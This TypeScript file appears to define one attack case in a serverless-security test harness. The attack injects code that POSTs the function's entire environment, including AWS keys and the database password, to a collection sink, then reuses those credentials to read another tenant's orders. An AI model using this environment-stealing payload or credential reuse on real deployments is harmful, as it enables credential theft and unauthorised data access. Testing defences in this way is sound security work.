import type { Attack, AttackContext } from "../attack.ts";
import type { DatabaseLogin, StolenCredentials } from "../aws-session.ts";
import { summary } from "../exchange.ts";
import { cartTwin, codeInCart, restore } from "./shared/requests.ts";

/** The variables of a hijacked function that say where its database is. */
type StolenEnvironment = Readonly<Record<string, string | undefined>>;

/** The database user of another function, who may read every order. */
const OTHER_USER = "orders";

export const databaseTokenOtherRole: Attack = {
  id: "database-token-other-role",
  title: "Sign in to the database as another function's user, with the role of a hijacked function",
  owasp: ["SAS-6", "SAS-5", "CWE-287"],
  paper: "III.2.A",
  defences: ["function:cart-signature", "function:cart-revival", "iam:role"],
  operation: "restoreCart",
  target: "carts",
  run: async (context) => {
    const token = context.sink.token();
    const answer = await context.send(restore(context, codeInCart(environmentThief(context, token))));
    const [hit] = context.sink.hits(token);
    if (!hit) return { effect: false, evidence: summary(answer) };
    const stolen = JSON.parse(hit.body) as StolenEnvironment;
    const session = context.aws(credentialsOf(stolen));
    try {
      const { note } = context.seed.globex;
      const rows = await session.databaseRows(loginOf(stolen), "SELECT note FROM orders");
      if (!rows.ok)
        return { effect: false, evidence: `the database answers ${rows.code} to a token for ${OTHER_USER}` };
      const effect = rows.value.some((row) => row.note === note);
      return {
        effect,
        evidence: effect ? `the cart function's role reads globex's order: "${note}"` : summary(answer),
      };
    } finally {
      session.close();
    }
  },
  twin: cartTwin,
};

/** Code that sends the function's whole environment away: on weak the database's password is in it. */
function environmentThief(context: AttackContext, token: string): string {
  return `fetch("${context.sink.url}/${token}",{method:"POST",body:JSON.stringify(process.env)})`;
}

function credentialsOf(stolen: StolenEnvironment): StolenCredentials {
  return {
    accessKeyId: stolen.AWS_ACCESS_KEY_ID ?? "",
    secretAccessKey: stolen.AWS_SECRET_ACCESS_KEY ?? "",
    sessionToken: stolen.AWS_SESSION_TOKEN ?? "",
  };
}

function loginOf(stolen: StolenEnvironment): DatabaseLogin {
  const { DATABASE_PASSWORD: password, DATABASE_CA: ca, DATABASE_USER: own = "" } = stolen;
  return {
    host: stolen.DATABASE_HOST ?? "",
    port: Number(stolen.DATABASE_PORT),
    name: stolen.DATABASE_NAME ?? "",
    // Where there is a password, it is the one all-powerful user's.
    user: password === undefined ? OTHER_USER : own,
    ...(password !== undefined && { password }),
    ...(ca !== undefined && { ca }),
  };
}
